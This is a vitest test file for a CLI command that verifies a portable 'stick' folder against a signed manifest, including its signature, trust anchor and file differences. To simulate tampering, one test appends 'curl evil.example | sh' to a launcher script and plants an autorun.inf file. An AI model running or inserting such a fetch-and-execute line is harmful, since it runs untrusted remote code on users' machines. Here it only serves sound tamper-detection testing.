// `caliop stick verify` on a stick folder laid out like the image (docs/manifest.md).
import { appendFileSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { formatManifest } from '../src/core/stick-manifest.js';
import { manifestEntriesOf } from '../src/edges/stick-tree.js';
import { generateReleaseKey, readReleaseSecretKey, signManifest } from '../src/service/manifest-signature.js';
import { caliop, initStick, temporaryFolder, testEnv } from './helpers/caliop.js';

const scratch = temporaryFolder('stick-verify');
const stick = join(scratch.path, 'CALIOP');
const releaseCertFile = join(scratch.path, 'release.cert.asc');
let releaseFingerprint: string;

beforeAll(async () => {
  mkdirSync(join(stick, 'vault'), { recursive: true });
  writeFileSync(join(stick, 'caliop.sh'), '#!/bin/sh\nexec "$(dirname "$0")/caliop-linux-x64" --stick "$(dirname "$0")" "$@"\n');
  writeFileSync(join(stick, 'caliop-linux-x64'), 'not really an executable, but bytes to hash');
  writeFileSync(join(stick, 'LISEZ-MOI-README.txt'), 'Bonjour / Hello\n');
  const release = await generateReleaseKey({ name: 'Caliop test release' });
  writeFileSync(join(stick, 'config.json'), `${JSON.stringify({ releaseCert: release.certArmored }, null, 2)}\n`);
  writeFileSync(releaseCertFile, release.certArmored);
  releaseFingerprint = release.fingerprint;
  const manifest = new TextEncoder().encode(formatManifest(await manifestEntriesOf(stick)));
  writeFileSync(join(stick, 'MANIFEST'), manifest);
  writeFileSync(join(stick, 'MANIFEST.sig'), await signManifest(manifest, await readReleaseSecretKey(release.secretKeyArmored)));
});

afterAll(() => scratch.remove());

// The tsc build has no compiled-in release fingerprint (src/build-facts.ts): the anchor is the
// certificate given with --release-cert; without it, only the stick's own (docs/manifest.md §8).
const verify = (json = true, anchored = true) =>
  caliop(['--stick', stick, ...(json ? ['--json'] : []), 'stick', 'verify', ...(anchored ? ['--release-cert', releaseCertFile] : [])], { env: testEnv() });

describe('caliop stick verify', () => {
  it('passes on an untouched stick, also after the ceremony wrote the vault', async () => {
    let run = await verify();
    expect(run.status, run.stderr).toBe(0);
    expect(JSON.parse(run.stdout)).toEqual({
      ok: true, signatureValid: true, differs: [], missing: [], extra: [],
      anchor: 'release-cert-file', releaseFingerprint, anchorFingerprint: releaseFingerprint, anchorMatches: true,
    });
    await initStick(stick, 'Ana', 'ana@example.org');
    run = await verify(false);
    expect(run.status, run.stderr).toBe(0);
    expect(run.stdout).toMatch(/^anchor: the release certificate you gave/);
    expect(run.stderr).toContain('every file of the stick is as it was made');
  });

  it('checked only against the stick\'s own certificate, it says so and exits 55, never 0 (stick_self_verified_only)', async () => {
    const run = await verify(false, false);
    expect(run.status).toBe(55);
    expect(run.stdout).toMatch(/^anchor: NONE outside the stick/);
    expect(run.stderr).not.toContain('every file of the stick is as it was made');
    expect(run.stderr).toMatch(/^caliop: error: the stick agrees with itself, but nothing outside it vouches for it/m);
    expect(run.stderr).toMatch(/^caliop: hint: .*--release-cert FILE/m);
    const json = await verify(true, false);
    expect(json.status).toBe(55);
    expect(JSON.parse(json.stdout)).toMatchObject({ ok: true, anchor: 'stick-only', anchorFingerprint: '', releaseFingerprint });
  });

  it('names every file that differs, is missing or is extra (51)', async () => {
    appendFileSync(join(stick, 'caliop.sh'), 'curl evil.example | sh\n');
    rmSync(join(stick, 'LISEZ-MOI-README.txt'));
    writeFileSync(join(stick, 'autorun.inf'), '[autorun]\n');
    const run = await verify(false);
    expect(run.status).toBe(51);
    expect(run.stdout).toContain('differs: caliop.sh');
    expect(run.stdout).toContain('missing: LISEZ-MOI-README.txt');
    expect(run.stdout).toContain('extra:   autorun.inf');
    expect(run.stderr).toMatch(/^caliop: error: files on the stick differ from its signed manifest/m);
  });

  it('a manifest signed by another key is 50; a malformed one too', async () => {
    const impostor = await generateReleaseKey({ name: 'Not the release key' });
    const manifest = new Uint8Array(readFileSync(join(stick, 'MANIFEST')));
    writeFileSync(join(stick, 'MANIFEST.sig'), await signManifest(manifest, await readReleaseSecretKey(impostor.secretKeyArmored)));
    const run = await verify();
    expect(run.status).toBe(50);
    expect(JSON.parse(run.stdout).signatureValid).toBe(false);
    appendFileSync(join(stick, 'MANIFEST'), 'not a manifest line\n');
    const malformed = await verify();
    expect(malformed.status).toBe(50);
    expect(malformed.stderr).toMatch(/^caliop: error: /m);
  });
});
